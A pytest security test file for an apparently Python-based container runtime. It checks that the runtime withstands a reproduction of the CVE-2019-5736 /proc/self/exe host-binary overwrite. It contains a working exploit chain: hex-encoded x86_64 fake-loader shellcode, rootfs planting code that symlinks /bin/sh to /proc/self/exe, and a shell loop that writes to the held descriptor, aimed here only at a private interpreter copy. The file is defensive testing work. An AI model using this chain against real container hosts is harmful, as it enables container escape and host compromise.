"""Overwriting the host's interpreter through /proc/self/exe (runc's CVE-2019-5736).

Until its last execve, the process that becomes (or joins) a container is a
fork of the host's Python interpreter.  A hostile image makes its command
``/bin/sh -> /proc/self/exe`` and plants a "dynamic loader" at the path the
interpreter's ELF names (PT_INTERP): the kernel then runs the *host's
interpreter* file inside the container, with the image's program standing in
as its loader.  That process holds the host binary as ``/proc/self/exe``;
it keeps a read-only fd of it, execs something else, and waits until nothing
runs the binary any more to reopen ``/proc/self/fd/N`` for writing.

The full attack runs against a private copy of the interpreter (the runtime
is started by the copy, as an engine would start ``pyrt-runtime``), so the
machine's real interpreter is never at risk; the engine's paths (``run``,
``exec``) are checked for the handle itself: no container process may ever
see the host interpreter's file as its executable.
"""
from __future__ import annotations

import hashlib
import json
import os
import shutil
import struct
import subprocess
import sys
import sysconfig
import tempfile
import time

import pytest

from pyrt_core.testing import machine

from hostile import load_image, static_elf

RUNTIME = os.path.join(os.path.dirname(sys.executable), "pyrt-runtime")
INTERPRETER = os.path.realpath(sys.executable)
RUNTIME_PYTHON = sys.executable


def elf_interp(path: str) -> str:
    """The PT_INTERP (dynamic loader) path an ELF executable names."""
    with open(path, "rb") as f:
        data = f.read(1 << 16)
    assert data[:4] == b"\x7fELF" and data[4] == 2, "a 64-bit ELF was expected"
    phoff, = struct.unpack_from("<Q", data, 32)
    phentsize, phnum = struct.unpack_from("<HH", data, 54)
    for i in range(phnum):
        ptype, _, offset, _, _, filesz = struct.unpack_from("<IIQQQQ", data, phoff + i * phentsize)
        if ptype == 3:  # PT_INTERP
            return data[offset:offset + filesz].rstrip(b"\0").decode()
    pytest.skip(machine.reason("dynamic-python", detail=f"{path} names no loader to plant"))


# The planted "loader" (x86_64): what a hostile image's fake ld.so does first.
#   fd = open("/proc/self/exe", O_RDONLY)           ; no O_CLOEXEC: it survives the exec
#   execve("/bin/busybox", ["sh", "/attack.sh"], NULL)
#   exit(1)
EVIL_LOADER = bytes.fromhex(
    "488d3d4c00000031f6b8020000000f054883ec20488d055400000048890424488d054c0000004889"
    "44240848c744241000000000488d3d270000004889e631d2b83b0000000f05bf01000000b83c0000"
    "000f052f70726f632f73656c662f657865002f62696e2f62757379626f78007368002f6174746163"
    "6b2e736800")

# the script's handle on what /proc/self/exe was: the first fd 3..9 that is a regular file
FIND_FD = ("for fd in 3 4 5 6 7 8 9; do "
           "[ -f /proc/self/fd/$fd ] && break; done; ")


def plant(script: str):
    """An ``edit`` for :func:`hostile.load_image` (or a rootfs): /bin/sh -> /proc/self/exe,
    the evil loader at the path the host interpreter's ELF names, and /attack.sh."""
    machine.skip_unless("x86_64", detail="the planted loader of this attack is x86_64 machine code")

    def edit(rootfs: str) -> None:
        loader = os.path.join(rootfs, elf_interp(INTERPRETER).lstrip("/"))
        os.makedirs(os.path.dirname(loader), exist_ok=True)
        with open(loader, "wb") as f:
            f.write(static_elf(EVIL_LOADER))
        os.chmod(loader, 0o755)
        os.unlink(os.path.join(rootfs, "bin", "sh"))
        os.symlink("/proc/self/exe", os.path.join(rootfs, "bin", "sh"))
        with open(os.path.join(rootfs, "attack.sh"), "w") as f:
            f.write(FIND_FD + script + "\n")
    return edit


# print the identity of the file the process started as
WHO_AM_I = "/bin/busybox stat -L -c exe=%d:%i /proc/self/fd/$fd"


def _identity(path: str) -> str:
    st = os.stat(path)
    return f"exe={st.st_dev}:{st.st_ino}"


def test_run_never_runs_the_host_interpreter(pyrt_cli, tmp_path):
    image = load_image(pyrt_cli, tmp_path, "hostile/selfexe:1", edit=plant(WHO_AM_I),
                       config={"Entrypoint": ["/bin/sh"], "Cmd": []})
    r = pyrt_cli("run", "--rm", image)
    assert _identity(INTERPRETER) not in r.stdout, \
        "the container ran the host's interpreter and held it as /proc/self/exe"


def test_exec_never_runs_the_host_interpreter(pyrt_cli, tmp_path):
    image = load_image(pyrt_cli, tmp_path, "hostile/selfexe:2", edit=plant(WHO_AM_I),
                       config={"Entrypoint": ["/bin/busybox"], "Cmd": ["sleep", "300"]})
    try:
        pyrt_cli("run", "-d", "--name", "selfexe", image, check=True)
        r = pyrt_cli("exec", "selfexe", "/bin/sh")
        assert _identity(INTERPRETER) not in r.stdout, \
            "exec ran the host's interpreter in the container"
    finally:
        pyrt_cli("rm", "-f", "selfexe")
        from pyrt_core.testing.lifecycle import conmon_pids, wait_for

        wait_for(lambda: conmon_pids(pyrt_cli) == [], timeout=10, what="conmon to exit")


# -- the whole attack, against a private copy of the interpreter ------------------------

def _interpreter_copy(tmp_path) -> tuple[str, dict]:
    """A venv whose interpreter is a copy of this one (same stdlib, same site-packages)."""
    venv = tmp_path / "copyvenv"
    (venv / "bin").mkdir(parents=True)
    copy = str(venv / "bin" / os.path.basename(INTERPRETER))
    shutil.copy2(INTERPRETER, copy)
    home = os.path.dirname(os.path.realpath(sys._base_executable))
    (venv / "pyvenv.cfg").write_text(f"home = {home}\ninclude-system-site-packages = false\n")
    site = venv / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}"
    site.mkdir(parents=True)
    os.symlink(sysconfig.get_paths()["purelib"], site / "site-packages")
    env = dict(os.environ)
    out = subprocess.run(["ldd", INTERPRETER], capture_output=True, text=True).stdout
    libdirs = [line.split("=>")[1].split("(")[0].strip() for line in out.splitlines()
               if "libpython" in line and "=>" in line]
    if libdirs:  # a RUNPATH of $ORIGIN/../lib would not follow the copy
        env["LD_LIBRARY_PATH"] = os.path.dirname(libdirs[0])
    return copy, env


# With the handle kept (this process is now a plain busybox, no longer running that
# file), retry opening it for writing until no process runs the file any more.
OVERWRITE = ("i=0; while [ $i -lt 100 ]; do "
             "if (echo PWNED-BY-CONTAINER >>/proc/self/fd/$fd) 2>/dev/null; then "
             "echo wrote; exit 0; fi; i=$((i+1)); sleep 0.1; done; echo gave-up")


def _runtime(copy, env, root, *args):
    with tempfile.TemporaryFile() as out:
        r = subprocess.run([copy, RUNTIME, "--root", root, *args], env=env,
                           stdin=subprocess.DEVNULL, stdout=out, stderr=subprocess.STDOUT,
                           timeout=60)
        out.seek(0)
        return r.returncode, out.read().decode(errors="replace")


def test_runtime_interpreter_cannot_be_overwritten(busybox_rootfs, tmp_path, subreaper):
    copy, env = _interpreter_copy(tmp_path)
    r = subprocess.run([copy, "-c", "import pyrt_core"], env=env, capture_output=True, text=True)
    assert r.returncode == 0, f"the copied interpreter does not run pyrt: {r.stderr}"
    with open(copy, "rb") as f:
        before = hashlib.sha256(f.read()).hexdigest()
    plant(OVERWRITE + " >/attack.log 2>&1")(busybox_rootfs)
    bundle = os.path.dirname(busybox_rootfs)
    log = os.path.join(bundle, "attack.log")
    spec = {
        "ociVersion": "1.0.2", "root": {"path": "rootfs"}, "hostname": "selfexe",
        "process": {"args": ["/bin/sh"],
                    "cwd": "/", "user": {"uid": 0, "gid": 0}, "env": ["PATH=/bin"]},
        "mounts": [{"destination": "/proc", "type": "proc", "source": "proc"},
                   {"destination": "/attack.log", "type": "bind", "source": log,
                    "options": ["bind"]}],
        "linux": {"namespaces": [{"type": t} for t in ("mount", "pid", "ipc", "uts", "network")]},
    }
    open(log, "w").close()
    with open(os.path.join(bundle, "config.json"), "w") as f:
        json.dump(spec, f)
    root = str(tmp_path / "state")
    try:
        rc, out = _runtime(copy, env, root, "create", "--bundle", bundle, "selfexe")
        assert rc == 0, out
        rc, out = _runtime(copy, env, root, "start", "selfexe")
        # the container either fails at once or runs its loop (up to 10 s) with no
        # runtime process left: the copy is then free to be written, if it can be
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:  # asked with the usual interpreter, not the copy
            rc, out = _runtime(RUNTIME_PYTHON, os.environ, root, "state", "selfexe")
            if rc != 0 or json.loads(out).get("status") == "stopped":
                break
            time.sleep(0.2)
    finally:
        _runtime(RUNTIME_PYTHON, os.environ, root, "delete", "--force", "selfexe")
    with open(copy, "rb") as f:
        after = hashlib.sha256(f.read()).hexdigest()
    with open(log) as f:
        attack = f.read()
    assert after == before, f"the container overwrote the interpreter: {attack!r}"
    assert "wrote" not in attack
